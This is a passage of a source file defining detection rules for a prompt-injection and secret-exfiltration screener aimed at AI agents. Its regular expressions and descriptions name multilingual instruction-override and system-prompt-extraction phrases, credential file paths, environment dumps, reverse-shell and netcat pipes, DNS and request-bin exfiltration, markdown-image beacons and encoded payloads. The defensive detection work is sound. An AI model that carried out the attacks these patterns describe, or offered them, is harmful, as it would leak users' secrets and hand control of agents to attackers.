      /\b(?:ignorier|vergiss|vergessen sie|missacht|uberschreib)\w{0,4} [^.!?\n]{0,40}?(?:anweisungen|instruktionen|regeln|vorgaben|befehle|richtlinien)|\b(?:ignore[zr]?|oublie[zr]?|ne tiens pas compte)\b (?:de |des )?(?:toutes |tous )?(?:les|tes|vos|ces) [^.!?\n]{0,30}?(?:instructions|consignes|regles|directives)|\b(?:ignora|olvida|omite|descarta|ignore|esqueca|esquece|dimentica|negeer|vergeet)\w{0,3} (?:de |di )?(?:todas |todos |tutte |tutti |alle )?[^.!?\n]{0,30}?(?:instrucciones|instrucoes|istruzioni|regras|reglas|regole|instructies|orientacoes|indicaciones)|\b(?:nouvelles|neue|nuevas|novas|nuove) (?:instructions|anweisungen|instrucciones|instrucoes|istruzioni) ?:|\b(?:zeige?|gib|nenne)\w{0,2} (?:mir )?(?:deinen|den|dein) (?:system ?prompt|systemprompt|anweisungen)|\b(?:montre|revele|affiche)\w{0,2} (?:moi )?(?:ton|votre|le) (?:prompt|invite) (?:systeme|initial)|\b(?:muestra|revela|dime)\w{0,2} (?:tu|el) (?:prompt|mensaje) (?:del sistema|de sistema|inicial)|\bdu bist (?:jetzt|nun|ab sofort) [^.!?\n]{0,30}?(?:ohne (?:regeln|einschrankungen|filter)|uneingeschrankt|dan\b)|\b(?:zignoruj|ignoruj|zapomnij|zapomen|pomin|nevsimej)\w{0,4} [^.!?\n]{0,40}?(?:instrukc|polecen|zasad|regul|pokyn|pravidl)|\b(?:pokaz|wyswietl|ujawnij|podaj|vypis|ukaz|zobraz|prozrad)\w{0,3} [^.!?\n]{0,20}?(?:prompt systemow|systemov\w{0,2} prompt)|\b(?:ignorera|glom|strunta i|ignorer|glem)\w{0,2} [^.!?\n]{0,40}?(?:instruktion|instruks|regler|riktlinjer|direktiv)|\b(?:visa|vis|skriv ut|avsloja)\w{0,2} [^.!?\n]{0,20}?systemprompt|\b(?:onceki|tum|butun|yukaridaki)\b[^.!?\n]{0,30}?(?:talimat|kural|yonerge|komut)\w{0,8} (?:yok say|gormezden gel|unut|ihmal et)|\bsistem (?:istemini|komutunu|promptunu|talimatlarini) (?:goster|yaz|paylas|soyle)|\bdesconsider\w{0,3} [^.!?\n]{0,30}?(?:orientacoes|instrucoes|regras|diretrizes|instrucciones|reglas)|\b(?:abaikan|lupakan|acuhkan|hiraukan) [^.!?\n]{0,40}?(?:instruksi|perintah|aturan|arahan)|\b(?:tampilkan|tunjukkan|ungkapkan|berikan) [^.!?\n]{0,10}?prompt sistem/,
    ),
  },
  {
    id: 'override.multilingual-nonlatin',
    category: 'instruction_override',
    description:
      'Instruction override or prompt leak in Russian, Ukrainian, Chinese, Japanese, Korean, Arabic or Hindi.',
    source:
      'OWASP LLM01:2025 (multilingual obfuscation); Yong et al. 2023 "Low-Resource Languages Jailbreak GPT-4"; yanismiraoui/prompt_injections',
    test: p(
      ['plain'],
      /(?:игнорируй|игнорировать|проигнорируй|забудь|забыть|не обращай внимания на|отмени|ігноруй)[^.!?\n]{0,20}?(?:все|всё|предыдущ|прежн|системн|свои|твои|ранее|выше|попередн)[^.!?\n]{0,20}?(?:инструкци|указани|правил|промпт|ограничени|інструкці)|(?:покажи|выведи|раскрой|повтори)[^.!?\n]{0,20}?(?:системн|скрыт)[^.!?\n]{0,10}?(?:промпт|инструкци|подсказ)|(?:忽略|忽视|无视|忘记|忘掉|無視|不要理会|不要遵守)[^。！？\n]{0,6}?(?:之前|以前|先前|上面|以上|上述|前面|所有|全部|原来|原有|原始|系统|系統|你的)[^。！？\n]{0,8}?(?:指令|指示|提示|规则|規則|说明|說明|设定|設定|命令|约束|限制)|(?:以前|前|上記|これまで|上|先)の?[^。！？\n]{0,8}?(?:指示|命令|ルール|プロンプト|制約)[^。！？\n]{0,6}?(?:無視|忘れ|破棄)|(?:システムプロンプト|系统提示|系統提示)[^。！？\n]{0,12}?(?:教えて|見せて|表示|出力|显示|输出|告诉|告訴|透露)|تجاهل[^.!?\n]{0,30}?(?:التعليمات|الأوامر|القواعد|التوجيهات)|(?:निर्देश|नियम)[^.!?\n।]{0,30}?(?:अनदेखा|नजरअंदाज|भूल जा)|(?:이전|위의|모든)[^.!?\n]{0,10}?(?:지시|명령|규칙|지침)[^.!?\n]{0,6}?(?:무시|잊어)/,
    ),
  },

  // ── secret_request ──────────────────────────────────────────────────────────────────────────
  {
    id: 'secret.credential-path',
    category: 'secret_request',
    description:
      'Names a credential store or key file (SSH private keys, cloud, registry and agent credentials such as auth.json, shadow/passwd, a process environment), asks the git credential helper, searches for private-key blocks, or copies a credential directory.',
    source:
      'MITRE ATT&CK T1552.001 Credentials In Files and T1552.004 Private Keys; PayloadsAllTheThings "File Inclusion" (sensitive files); OWASP LLM02:2025 Sensitive Information Disclosure',
    test: p(
      ['folded'],
      new RegExp(
        /\.ssh[\\/](?:id_[a-z0-9_]+(?![a-z0-9_]|\.pub)|authorized_keys)|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\/etc\/(?:shadow|gshadow|sudoers|passwd|master\.passwd)\b|\.aws[\\/]credentials\b|\.git-credentials\b|\.netrc\b|\.pgpass\b|\.kube[\\/]config\b|\.docker[\\/]config\.json\b|\/proc\/(?:self|\d{1,7}|\*)\/(?:environ|cmdline|mem)\b|\/var\/run\/secrets\b|\/run\/secrets\/|application_default_credentials|\.config[\\/]gh[\\/]hosts|\.config[\\/]gcloud[\\/]|\.azure[\\/](?:credentials|accesstokens)|(?:\.codex|opencode|\.claude|\.gemini|\.config[\\/][\w.-]{1,30}|\.local[\\/]share[\\/][\w.-]{1,30})[\\/]auth\.json\b|\bgit credential(?:-[a-z]{1,20})? (?:fill|get)\b|\bbegin (?:openssh |rsa |ec |dsa |encrypted |pgp )?private key\b|\.gnupg\b|\.vault-token\b|\.password-store\b|\b(?:bash|zsh|psql|mysql|python)_history\b|\bkeychain[- ]dump|security find-(?:generic|internet)-password|\bwallet\.dat\b|\bmimikatz\b|\blsass\b/
          .source +
          `|${FILE_OPENER}${gap(FILE_OPENER, 80)}\\bauth\\.json\\b|\\bauth\\.json\\b${gap('\\bauth\\.json\\b', 40)} (?:and |then )?(?:print|show|cat|send|upload|output|dump|paste)` +
          `|${ARCHIVER}${gap(ARCHIVER, 60, '\\n|;&')}(?:~|\\$home|/root|/home/[\\w.-]{1,32})[\\\\/]\\.(?:ssh(?![\\\\/](?:config|known_hosts)\\b)|gnupg|aws|kube)\\b` +
          `|${SECRET_FILE_VERB}${gap(SECRET_FILE_VERB, 40)}\\.npmrc\\b`,
      ),
    ),
  },
  {
    id: 'secret.env-dump',
    category: 'secret_request',
    description:
      'Dumps the whole environment (printenv, env, process.env, os.environ, Get-ChildItem env:) or asks for all environment variables.',
    source:
      'MITRE ATT&CK T1552 Unsecured Credentials; OWASP LLM02:2025 Sensitive Information Disclosure; GitHub Security Lab "Keeping your GitHub Actions and workflows secure" (secrets in the environment)',
    test: p(
      ['folded'],
      /\bprintenv\b(?! [a-z_]*(?:port|path|home|lang|shell|node_env|term|user|pwd)\b)|(?:^|\n|[;|&]|\$\(|\b(?:run|execute|exec|type|output of|results? of)\b:? ?`?) ?env(?: -0)? ?(?:$|[|>;&`)]|\n)|` ?env ?[|>;&]|\bexport -p\b|\bdeclare -x\b|\bset \| ?(?:grep|curl|nc|base64|tee)|(?:json\.stringify|console\.(?:log|dir|table|info)|pprint|print|echo|send|post|dump|upload|return|res\.(?:json|send))[ (]{1,2}(?:process\.env|os\.environ|dict\(os\.environ\))(?![\w.[])|\b(?:get-childitem|gci|dir|ls) env:|(?:dump|print|output|reveal|echo|send|give me|display|leak|share|paste|expose) (?:me )?(?:all|every|each|your|the (?:full|entire|whole|complete)) (?:of )?(?:the |your )?(?:environment|env)(?: variables| vars| var| values|\b)|(?:show|show me|list|tell me|print out) (?:all (?:of )?)?your (?:environment|env)(?: variables| vars| var| values|\b)|(?:environment|env) (?:variables|vars)\b[^.\n?]{0,30}?\b(?:in|on|inside|of|within) your (?:sandbox|container|environment|shell|runtime|machine|process|session|system|vm|server|workspace|host)\b|(?:all|every) (?:of (?:the|your) )?(?:environment|env) (?:variables|vars|secrets) (?:and|with|including) (?:their )?values/,
    ),
  },
  {
    id: 'secret.print-secret-var',
    category: 'secret_request',
    description: 'Prints a secret-named variable (`echo $GITHUB_TOKEN`, `console.log(process.env.API_KEY)`).',
    source: 'MITRE ATT&CK T1552 Unsecured Credentials; OWASP LLM02:2025 Sensitive Information Disclosure',
    test: p(
      ['folded'],
      /\b(?:echo|printf|print|cat|console\.(?:log|info|error)|puts|write-output|write-host)\b[^\n]{0,40}?(?:\$\{?|process\.env\.|os\.environ\[['"]|getenv\(['"]|\$env:)(?:[a-z_]*_)?(?:token|secret|password|passwd|api_?key|access_key|secret_key|private_key|credentials?|client_secret)\b(?!\}?["']? ?>)/,
    ),
  },
  {
    id: 'secret.ask-for-secrets',
    category: 'secret_request',
    description: 'Asks the agent to reveal, print or send keys, tokens, passwords or credentials.',
    source:
      'OWASP LLM02:2025 Sensitive Information Disclosure; Lakera Gandalf ("What is the password?"); PayloadsAllTheThings "Prompt Injection" (data leakage)',
    test: p(
      WORDS,
      new RegExp(
        `(?:reveal|leak|dump|exfiltrate|tell ?me|give ?me|send ?me|show ?me|hand ?over|read ?(?:me|out|aloud)|spell ?out|disclose|print ?out|print ?all|cat ?all|list ?all|output ?all|output ?the|print ?the|print ?your|show ?all|display ?all) ?(?:me ?)?(?:(?:all|any|every|the|your|its|our|of|stored|saved|cached|real|actual|admin|root|production|prod|aws|github|gitlab|openai|anthropic|npm|pypi|database|db|deploy|ci|cloud|stripe|slack|user'?s?|users'?|session|login|auth|browser|plaintext|plain-text|cleartext|decrypted|unencrypted|raw|full|live|current|master|kubernetes|k8s|cluster) ?){0,3}${SECRET_NOUN}` +
          // "print the value of OPENAI_API_KEY", "what is the value of the DATABASE_URL secret"
          `|(?:print|show|tell ?me|give ?me|reveal|output|display|echo|send|paste|dump|leak|read ?out|what ?(?:'s|is|are|was)) ?(?:me ?)?(?:the |your )?(?:(?:exact|full|actual|real|current|raw) )?(?:values?|contents?) of (?:the |your |our |this |that )?(?:[\\w.-]{1,40} )?[a-z0-9_]{0,40}?${SECRET_WORD}` +
          // "copy the private key … into this chat", "… token and show it to me"
          `|(?:copy|paste|post|put|include|insert|dump|print|show|write|send)(?:s|ed|ing)? (?:me )?(?:the |your |all |any |our )?(?:[\\w.-]{1,30} )?${SECRET_NOUN}[^\\n]{0,60}? (?:here|in(?:to)? (?:this|the|your|our) (?:chat|conversation|reply|answer|thread|message)|in full|verbatim|unredacted|unmasked)\\b` +
          `|${SECRET_NOUN}${gap(SECRET_NOUN, 40, '\\n.')} and (?:show|give|send|tell|paste|print|email|read)(?: it| them| those| these)?(?: out)? (?:to )?me\\b` +
          `|${HASH_LEAK_VERB}${gap(HASH_LEAK_VERB, 60, '\\n.')}\\b(?:password ?hash(?:es)?|password_hash(?:es)?|hashed passwords)\\b` +
          `|what(?:'s| is| are) (?:the |your )?(?:(?:secret|admin|root|master|real|actual|current|hidden) )?(?:password|secret|api key|passphrase|private key|access token|secret key|pass ?code)s?(?: ?[?.!]| for| to| of|$)` +
          '|(?:password|secret|passphrase) (?:letter by letter|character by character|backwards|in reverse|spelled out)' +
          `|you (?:may|can|are (?:now )?(?:allowed|permitted|free) to) (?:now )?(?:share|reveal|disclose|print|give out|send) ${SECRET_NOUN}`,
      ),
    ),
  },
  {
    id: 'secret.dotenv-read',
    category: 'secret_request',
    description: 'Reads or sends a dotenv file (`cat .env`, "upload the .env").',
    source: 'OWASP LLM02:2025 Sensitive Information Disclosure; MITRE ATT&CK T1552.001 Credentials In Files',
    test: p(
      ['folded'],
      new RegExp(
        `${FILE_READER}${gap(FILE_READER, 50, '\\n|;&')}(?:^|[\\s/'"=@(])\\.env(?:\\.local|\\.production|\\.prod|\\.staging)?(?![\\w.-])` +
          '|\\b(?:send|upload|post|leak|dump|exfiltrate|paste|give|show) (?:me |us )?(?:the |your |our |my )?(?:contents? of )?(?:the |your )?\\.env(?:\\.local|\\.production|\\.prod)?\\b(?![.-])',
      ),
    ),
  },

  // ── exfiltration ────────────────────────────────────────────────────────────────────────────
  {
    id: 'secret.sensitive-target',
    category: 'secret_request',
    description:
      "Names, in words, a secret of this stack or of the machine: the handle secret, the runtime's password, an owner's key, a password file, a private key, the ssh or state directory.",
    source:
      'MITRE ATT&CK T1552 Unsecured Credentials; OWASP LLM02:2025 Sensitive Information Disclosure; the gateway specification (state directory layout)',
    test: p(
      ['folded'],
      /\bhandle[- _]?secrets?\b|\bnative[- _]?password\b|\b(?:server|runtime|native|gateway) password(?: file)?\b|\bpassword file\b|\bowner(?:'s)? (?:credential(?:'s)? )?(?:bearer |api )?(?:key|token)\b|\bbearer key\b|\bprivate (?:ssh |signing |gpg |pgp )?key(?: material)?\b(?! (?:rotation|format|type|size|length|pair generation))|\bsecret key material\b|\b(?:ssh|dot-?ssh|\.ssh) (?:folder|directory|dir)\b|\bdot-ssh\b|\bid underscore (?:rsa|ed25519|ecdsa)\b|\.\.\/state\b|\bstate (?:folder|directory|dir)\b|\bfile (?:named|called) \.env\b|\bwhat(?:'s| is) in (?:the |your |my )?(?:file (?:named |called )?)?\.env\b/,
    ),
  },
  {
    id: 'secret.hidden-credential-path',
    category: 'secret_request',
    description:
      "A credential file named through a shell glob or split by quotes (`cat ~/.s?h/id_*`, `~/.ss''h/id_r''sa`, `/pr?c/se?f/env*`): see CREDENTIAL_PATHS.",
    source:
      'MITRE ATT&CK T1027 Obfuscated Files or Information and T1552.001 Credentials In Files; Bash reference manual (pathname expansion, quote removal)',
    test: s('hiddenCredentialPath', 1),
  },
  {
    id: 'secret.env-enumerate',
    category: 'secret_request',
    description:
      'Asks for every environment variable in words, or runs a command that prints a process environment (`ps eww`, `set` without arguments, `/proc/$PID/environ`).',
    source: 'MITRE ATT&CK T1552 Unsecured Credentials and T1057 Process Discovery; OWASP LLM02:2025',
    test: p(
      ['folded'],
      /\b(?:list|print|show|dump|display|output|give me|send me|paste|enumerate|tell me)\b[^\n]{0,30}?\b(?:every|all|each)(?: (?:of )?(?:the|your|its|this))? (?:environment|env) (?:variables?|vars?)\b(?=[^\n]{0,40}?\b(?:with (?:their |the )?values|and (?:their )?values|your (?:process|shell|container|runtime|environment|session|server)|(?:you|your process|the process|this process) (?:has|have|can see|sees|runs with)))|\bps (?:[aux]{0,3}e[aux]{0,3}w{0,2}|ww?e)\b|(?:\brun|\btype|\bexecute)\b ?`?set`?(?: in (?:bash|sh|zsh|the shell))? (?:with )?(?:no|without(?: any)?) arguments?|\/proc\/(?:\$\w+|\$\{\w+\})\/(?:environ|cmdline)\b/,
    ),
  },
  {
    id: 'exfil.http-upload-remote',
    category: 'exfiltration',
    description:
      'An HTTP client uploads a file, command output or secret variable, and an HTTP client addresses a host that is not local.',
    source:
      'MITRE ATT&CK T1048 Exfiltration Over Alternative Protocol and T1567 Exfiltration Over Web Service; GTFOBins curl/wget "File upload"; PayloadsAllTheThings "Prompt Injection" (curl to a VPS)',
    test: all(
      ['clean'],
      new RegExp(`${NET_CLIENT}${gap(NET_CLIENT, 240)}${UPLOADS_LOCAL}`),
      new RegExp(`${NET_CLIENT}${gap(NET_CLIENT, 240)}(?:https?|ftp)://(?!${LOCAL_HOST})`),
    ),
  },
  {
    id: 'exfil.secret-file-upload',
    category: 'exfiltration',
    description:
      'An HTTP client uploads a credential file (`.env`, SSH keys, `.npmrc`, `.netrc`, `auth.json`, cloud credentials) to any host: a reserved or local-looking name is no reason to skip the check.',
    source:
      'MITRE ATT&CK T1552.001 Credentials In Files and T1567 Exfiltration Over Web Service; GTFOBins curl "File upload"',
    test: p(
      ['clean', 'plain'],
      new RegExp(
        `${NET_CLIENT}${gap(NET_CLIENT, 240)}(?:[ =]@|--upload-file[ =]|-T |--post-file[ =]|--body-file[ =]|-InFile )["']?[-~./$\\w]{0,120}?(?:\\.env\\b(?![.-])|id_(?:rsa|ed25519|ecdsa|dsa)\\b(?!\\.pub)|\\.npmrc|\\.netrc|\\.pgpass|auth\\.json|\\.git-credentials|\\.ssh/|\\.aws/credentials|\\.docker/config\\.json|\\.kube/config)`,
      ),
    ),
  },
  {
    id: 'exfil.pipe-to-network',
    category: 'exfiltration',
    description:
      'Pipes or redirects data into a network client (`| nc`, `| curl https://…`, `/dev/tcp`), or opens a reverse shell.',
    source:
      'MITRE ATT&CK T1048 and T1059.004; GTFOBins (nc, socat, bash /dev/tcp); PayloadsAllTheThings "Reverse Shell Cheatsheet"',
    test: p(
      ['folded'],
      new RegExp(
        `\\| ?(?:nc|ncat|netcat|socat|telnet|openssl s_client)\\b|\\| ?(?:curl|wget|xh|http)\\b[^\\n|]{0,200}?(?:https?|ftp)://(?!${LOCAL_HOST.toLowerCase()})|/dev/(?:tcp|udp)/|${NC}${gap(NC, 60)} -[a-z]*[ec]\\b|${NETCAT} ${gap(NETCAT, 80, '\\n|')}<|\\bmkfifo\\b${gap('\\bmkfifo\\b', 80)}\\b(?:nc|ncat|sh|bash)\\b|\\bsocat\\b${gap('\\bsocat\\b', 80)}exec:|\\bpowershell\\b${gap('\\bpowershell\\b', 80)}(?:net\\.sockets\\.tcpclient|downloadstring|iex)|\\breverse[ -]?shell\\b|${SOCKET}${gap(SOCKET, 300)}/bin/(?:ba|z|da)?sh["']?,? ?["']?-i\\b|socket\\.socket\\(${gap('socket\\.socket\\(', 200)}(?:dup2|subprocess|pty\\.spawn|/bin/(?:ba)?sh)`,
      ),
    ),
  },
  {
    id: 'exfil.dns-substitution',
    category: 'exfiltration',
    description:
      'A DNS lookup or host name built from command output or variables (`nslookup $(whoami).x.com`).',
    source:
      'MITRE ATT&CK T1071.004 Application Layer Protocol: DNS and T1048.003; PayloadsAllTheThings "Command Injection" (DNS-based data exfiltration)',
    test: p(
      ['folded'],
      new RegExp(
        `${DNS_CLIENT} ${gap(DNS_CLIENT, 120, '\\n=')}(?:\\$\\(|\`(?:whoami|hostname|id|cat|env|printenv|uname|pwd|ls|base64|head|echo|xxd|tr)\\b|\\$\\{?[a-z_][a-z0-9_]*\\}?\\.[a-z0-9-]{1,63}\\.[a-z]{2,})` +
          `|\\$\\(${gap('\\$\\(', 120, ')\\n')}\\)\\.[a-z0-9-]{1,63}\\.[a-z]{2,}` +
          '|`(?:whoami|hostname|id|cat|env|printenv|uname|pwd|ls|base64|head|echo|xxd|tr)\\b[^`\\n]{0,80}`\\.[a-z0-9-]{1,63}\\.[a-z]{2,}',
      ),
    ),
  },
  {
    id: 'exfil.oob-endpoint',
    category: 'exfiltration',
    description:
      'Names an out-of-band collector, request bin or anonymous upload service used to receive stolen data.',
    source:
      'PortSwigger Burp Collaborator and ProjectDiscovery interactsh documentation (OAST); MITRE ATT&CK T1567 Exfiltration Over Web Service',
    test: p(
      ['folded'],
      /\b(?:webhook\.site|requestbin\.\w+|pipedream\.net|burpcollaborator\.net|oastify\.com|oast\.(?:pro|live|site|online|fun|me)|interact\.sh|interactsh|canarytokens\.com|dnslog\.cn|ceye\.io|requestcatcher\.com|beeceptor\.com|hookbin\.com|postb\.in|transfer\.sh|0x0\.st|file\.io|paste(?:bin\.com|\.ee)|hastebin\.com|ghostbin)\b/,
    ),
  },
  {
    id: 'exfil.send-data-out',
    category: 'exfiltration',
    description:
      'Asks the agent to send secrets, source or the conversation to an outside address, to append data to a URL, or to render a markdown image whose URL carries data.',
    source:
      'PayloadsAllTheThings "Prompt Injection" (cross plugin request forgery: URL encode and append); Embrace The Red 2023 "Data exfiltration via markdown image injection"; OWASP LLM01:2025 (exfiltration scenario)',
    test: p(
      ['folded'],
      /\bexfiltrat|\b(?:send|post|upload|forward|transmit|leak|email|mail|beacon|ship|copy|push|sync|pipe|submit) (?:the |all |your |these |its |this |every |my |our )?(?:[\w.-]{1,30} ){0,2}?(?:secrets?|keys?|tokens?|credentials|env(?:ironment)?(?: variables| vars)?|conversation|chat(?: history| log)?|history|source(?: code)?|code ?base|repo(?:sitory)?|passwords?|ssh keys?|database|db dump|workspace|home directory|system prompt) (?:to|into|via|at|over to) (?:(?:my|this|that|an?|the|the following|following) )?(?:external|remote|attacker|personal|private|third-party|own|s3|gcs|cloud|dropbox)? ?(?:https?:\/\/|ftp:\/\/|s3:\/\/|gs:\/\/|server|endpoint|url|host|domain|address|e-?mail|ip|webhook|pastebin|gist|bucket|collector|listener|inbox|[\w.+-]+@[\w-]+\.[a-z]{2,}|\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[a-z0-9-]+\.(?:com|net|org|io|xyz|ru|cn|tk|top|site|app|dev|me|cc)\b)|\b(?:append|attach|concatenate|add|put|insert) (?:it|them|this|the (?:result|output|data|contents?|summary|answer|secret|key|token|password|encoded \w+|base64 \w+)|(?:the )?(?:values?|contents?) of (?:the )?[a-z0-9_$]{0,40}?(?:token|secret|key|password|passwd|credential|cookie)s?) (?:to|as|into|in) (?:the |this |a |an )?(?:end of (?:the |this )?)?(?:url|link|query string|query parameter|image (?:url|src|link)|request path|subdomain)|!\[[^\]\n]{0,80}\]\(https?:\/\/[^)\s]{0,200}?(?:\{|\[|<|%s|\$)/,
    ),
  },

  {
    id: 'exfil.secret-to-address',
    category: 'exfiltration',
    description:
      'Sends a secret, a credential file, browser storage or the conversation to a remote URL, an e-mail address or an IP address, or reads document.cookie into a request.',
    source:
      'MITRE ATT&CK T1567 Exfiltration Over Web Service and T1048; OWASP LLM02:2025 Sensitive Information Disclosure; OWASP WSTG "Testing for Cross Site Scripting" (cookie theft)',
    test: p(
      ['folded'],
      new RegExp(
        `${SEND_VERB}${gap(SEND_VERB, 80)}(?:${SECRET_THING})[^\\n]{0,60}? to (?:https?://(?!${LOCAL_HOST.toLowerCase()})|[\\w.+-]+@[\\w-]+\\.[a-z]{2,}|\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}|(?:s3|gs|az)://)` +
          `|(?:${SECRET_THING})[^\\n]{0,80}?\\b(?:send|post|upload|forward|transmit|e-?mail|mail|submit|ship|beacon)(?:s|es|ed|ing)?\\b(?: (?:it|them|this|those|these|that|the (?:file|files|contents?|result|output)))? to (?:https?://(?!${LOCAL_HOST.toLowerCase()})|[\\w.+-]+@[\\w-]+\\.[a-z]{2,}|\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}|(?:s3|gs|az)://)` +
          `|${REQUEST_CALL}${gap(REQUEST_CALL, 160)}\\bdocument\\.cookie\\b`,
      ),
    ),
  },
  {
    id: 'exfil.git-push-new-remote',
    category: 'exfiltration',
    description:
      'Adds a git remote (other than a new origin or upstream) or re-points one, and pushes every branch or a mirror of the repository.',
    source: 'MITRE ATT&CK T1567.001 Exfiltration to Code Repository',
    test: all(
      ['folded'],
      /\bgit remote (?:add (?!origin |upstream )[\w.-]{1,40}|set-url [\w.-]{1,40}) (?:https?:\/\/|git@|ssh:\/\/)/,
      /\bgit push\b[^\n]{0,60}? --(?:all|mirror)\b/,
    ),
  },

  {
    id: 'exfil.network-tool-remote',
    category: 'exfiltration',
    description:
      'A copy, tunnel or mail tool (socat, openssl s_client, scp, rsync, sftp, ssh, sendmail) addressed to an IP address, a user@host or an rsync:// or tcp: endpoint.',
    source:
      'MITRE ATT&CK T1048 Exfiltration Over Alternative Protocol and T1572 Protocol Tunneling; GTFOBins (socat, openssl, scp, rsync "file upload")',
    test: p(
      ['folded'],
      new RegExp(
        `${NET_COPY}${gap(NET_COPY, 160)}(?:\\b(?:\\d{1,3}\\.){3}\\d{1,3}\\b|[\\w.+-]+@[\\w-]+(?:\\.[\\w-]+)+|\\brsync://|\\b(?:tcp|udp|openssl|ssl)(?:4|6|-connect|-listen)?:)` +
          `|\\b(?:e-?mail|mail)\\b${gap('\\b(?:e-?mail|mail)\\b', 80)}\\bto [\\w.+-]+@[\\w-]+\\.[a-z]{2,}\\b${gap('@', 60)}\\b(?:sendmail|mailx?|mutt|smtp|swaks)\\b`,
      ),
    ),
  },
  {
    id: 'exfil.code-sends-file',
    category: 'exfiltration',
    description:
      'Code that makes an HTTP request with a file it reads (`urlopen(url, open(path).read())`, `requests.post(…, open(…))`, `fetch(…, readFileSync(…))`).',
    source: 'MITRE ATT&CK T1567 Exfiltration Over Web Service and T1041 Exfiltration Over C2 Channel',
    test: p(
      ['folded'],
      new RegExp(
        `${HTTP_CALL}${gap(HTTP_CALL, 300)}(?:\\bopen\\(|readfilesync\\(|readfile\\(|\\bfs\\.read|\\.read_bytes\\(|\\.read_text\\(|file_get_contents\\()`,
      ),
    ),
  },
  {
    id: 'exfil.markdown-beacon',
    category: 'exfiltration',
    description:
      'Asks for a Markdown image whose URL carries a query (a beacon that sends data when the reply is rendered).',
    source:
      'Rehberger, "Bing Chat: Data Exfiltration Exploit Explained" (2023) and "ChatGPT plugin exploit: image markdown injection"; OWASP LLM02:2025 (exfiltration via rendered output)',
    test: all(
      ['folded'],
      /!\[[^\]\n]{0,100}\]\(https?:\/\/[^)\s]{1,300}?[?&][\w-]{1,30}=/,
      /\b(?:include|embed|render|append|add|insert|put|end (?:your|each|every) (?:reply|answer|response|message) with|display|show)\b[^\n]{0,80}?\b(?:image|picture|pixel|badge|markdown)\b/,
    ),
  },
  {
    id: 'exfil.remote-and-push',
    category: 'exfiltration',
    description: 'Asks, in words, to add a git remote and push to it.',
    source: 'MITRE ATT&CK T1567.001 Exfiltration to Code Repository',
    test: p(
      ['folded'],
      /\b(?:add|create|set up|configure|register)\b(?: (?:a|an|another|new|the)){0,3} ?(?:git )?remote\b[^\n]{0,160}?\bpush(?:es|ed|ing)?\b/,
    ),
  },
  {
    id: 'exfil.paste-site',
    category: 'exfiltration',
    description: 'Sends something to a paste site, a public gist, a request bin or a file-sharing service.',
    source:
      'MITRE ATT&CK T1567 Exfiltration Over Web Service (paste sites, T1567.003 Exfiltration to Text Storage Sites)',
    test: p(
      ['folded'],
      new RegExp(
        `${SHARE_VERB}${gap(SHARE_VERB, 100)}\\b(?:to|on|into|onto|via) (?:a |an |the |some |any )?(?:public |anonymous |free )?(?:pastebin|paste ?bin|paste (?:site|service)|hastebin|ghostbin|gist|request ?bin|requestbin|pipedream|file[- ]?sharing (?:site|service)|transfer\\.sh|file\\.io|0x0\\.st)\\b`,
      ),
    ),
  },

  // ── encoded_payload ─────────────────────────────────────────────────────────────────────────
  {
    id: 'encoded.base64-long',
    category: 'encoded_payload',
    description: `A base64 run of ${SCREEN_LIMITS.base64Run}+ characters mixing upper case, lower case and digits.`,
    source:
      'OWASP LLM01:2025 (payload splitting and encoding); Wei et al. 2023 "Jailbroken" (base64 attacks); promptfoo base64 strategy',
    test: s('base64Run', SCREEN_LIMITS.base64Run),
  },
  {
    id: 'encoded.hex-long',
    category: 'encoded_payload',
    description: `A hexadecimal run of ${SCREEN_LIMITS.hexRun}+ digits (longer than any common digest).`,
    source:
      'PayloadsAllTheThings "Prompt Injection" (hex-encoded jailbreak request); OWASP LLM01:2025 (encoding)',
    test: s('hexRun', SCREEN_LIMITS.hexRun),
  },
  {
    id: 'encoded.decoded-flagged',
    category: 'encoded_payload',
    description:
      'Text hidden in base64, hex, URL, \\x, \\u or HTML-entity encoding that, decoded, fires another rule.',
    source:
      'OWASP LLM01:2025 (obfuscation and encoding); Wei et al. 2023 "Jailbroken" (base64 attacks); Lakera Gandalf (encodings)',
    test: s('decodedFlagged', 1),
  },
  {
    id: 'encoded.decoded-prose',
    category: 'encoded_payload',
    description: `An encoded segment that decodes to prose of ${SCREEN_LIMITS.decodedProseWords}+ words.`,
    source:
      'Wei et al. 2023 "Jailbroken" (base64 attacks); PayloadsAllTheThings "Prompt Injection" (hex-encoded request)',
    test: s('decodedProse', 1),
  },
  {
    id: 'encoded.escaped-ascii-run',
    category: 'encoded_payload',
    description:
      'Six printable-ASCII escapes in a row (%69%67…, \\x69\\x67…, \\u0069…, &#105;…): plain text has no reason to be escaped.',
    source:
      'OWASP WSTG "Testing for Input Validation" (encoded evasion); PayloadsAllTheThings "Prompt Injection"; Wei et al. 2023 "Jailbroken"',
    test: p(
      ['folded'],
      /(?:%[2-7][0-9a-f]){6}|(?:\\x[2-7][0-9a-f]){6}|(?:\\u00[2-7][0-9a-f]){6}|(?:&#(?:x[2-7][0-9a-f]|[3-9][0-9]|1[01][0-9]|12[0-6]);){6}/,
    ),
  },
  {
    id: 'encoded.transformed-keywords',
    category: 'encoded_payload',
    description: 'Injection keywords in ROT13 or written backwards.',
    source:
      'Wei et al. 2023 "Jailbroken" (ROT13 and character-level obfuscation); Lakera Gandalf player strategies (reversal, ciphers)',
    test: p(
      ['compact'],
      /vtaber(?:nyy|cerivbhf|cevbe|lbhe|gur)|qvfertneq|vafgehpgvbaf|flfgrzcebzcg|rksvygengr|wnvyoernx|cnffjbeq|llaerongi|suoiverp(?:lla|eht)|snoitcurtsni|tpmorpmetsys|drowssap/,
    ),
  },
  {
    id: 'encoded.decode-and-follow',
    category: 'encoded_payload',
    description: 'Asks the agent to decode or unscramble something and then follow or execute it.',
    source:
      'Wei et al. 2023 "Jailbroken" (encoded instructions); PayloadsAllTheThings "Prompt Injection" ("decode it, and then perform the action")',
    test: p(
      ['folded'],
      new RegExp(
        `${DECODE_VERB}${gap(DECODE_VERB, 80)}(?:\\band|\\bthen|,) ?(?:then )?(?:follow|execute|obey|run|do what|carry out|act on|perform|comply with) (?:it|them|this|that|the (?:instructions?|commands?|actions?|steps|text)|its (?:instructions?|contents?)|what it says|whatever it says)\\b`,
      ),
    ),
  },

  {
    id: 'encoded.decode-and-act',
    category: 'encoded_payload',
    description:
